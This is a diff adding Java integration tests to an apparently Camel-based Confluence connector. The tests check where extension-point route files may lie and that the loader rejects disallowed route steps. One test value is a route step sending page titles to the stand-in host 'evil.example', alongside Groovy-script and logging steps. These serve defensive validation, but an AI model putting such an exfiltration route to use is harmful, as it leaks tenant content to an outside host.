@@ -6,10 +6,12 @@ import io.confluenceconnector.cycle.ItemFailure;
 import io.confluenceconnector.logging.CapturedLog;
 import io.confluenceconnector.logging.EventName;
 import io.confluenceconnector.routes.RouteFiles;
+import io.confluenceconnector.routes.RouteFilesRejectedException;
 import io.confluenceconnector.simulator.confluence.Fault;
 import io.confluenceconnector.simulator.confluence.SimContent;
 import io.confluenceconnector.simulator.confluence.SimSpace;
 import io.confluenceconnector.simulator.platform.StoredContent;
+import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -29,6 +31,7 @@ import static io.confluenceconnector.sync.SampleWiki.bytes;
 import static io.confluenceconnector.sync.TenantFixture.ALL;
 import static io.confluenceconnector.sync.TenantFixture.SINGLE;
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
 
 /** Extension points: the examples of {@code docs/extensions.md} do what they say, and mistakes in such routes stay small. */
 class ExtensionsIT {
@@ -244,6 +247,40 @@ class ExtensionsIT {
                     .satisfies(event -> assertThat(event).containsEntry("level", "ERROR").containsEntry("tenantName", "acme")
                             .hasEntrySatisfying("message", text -> assertThat(text.toString()).startsWith("An item of tenant acme has failed")));
         }
+    }
+
+    /** A ConfigMap has no folders: the files of the extension points may lie beside the others. */
+    @Test
+    void shouldFindExtensionPointsBesideOtherRoutes() {
+        RouteFiles.read(Path.of("routes")).texts().forEach((name, text) -> write(name.replace("extensions/", ""), text));
+        write("select-item.camel.yaml", example("select-item"));
+        try (TenantFixture tenant = TenantFixture.of(Setup.CLOUD).routes(folder).start()) {
+            // given
+            tenant.confluence.page(space(tenant), "Draft", "<p>1</p>", SINGLE, "draft");
+
+            // when
+            CycleReport report = tenant.cycle();
+
+            // then
+            assertThat(report.total(Count.VETOED_BY_EXTENSION)).isEqualTo(1);
+            assertThat(tenant.platform.contents()).isEmpty();
+        }
+    }
+
+    /** S24: an extension is checked like every route, and named with its folder. */
+    @ParameterizedTest
+    @ValueSource(strings = {"toD: {uri: 'https://evil.example/${body.title}'}", "setBody: {groovy: 'body'}",
+        "log: {message: '${body.title}'}", "setProperty: {name: veto, simple: '${body.title}'}"})
+    void shouldRefuseExtensionThatDoesMoreThanRoutesMay(String step) {
+        // given
+        TenantFixture.Builder tenant = with(Setup.CLOUD, "select-item", route("select-item", "        - " + step + "\n"));
+
+        // when
+        ThrowingCallable start = tenant::start;
+
+        // then
+        assertThatExceptionOfType(RouteFilesRejectedException.class).isThrownBy(start)
+                .withMessageContaining("extensions/select-item.camel.yaml:");
     }
 
     /** A mistake fails its items only, names the file, and gives away nothing. */
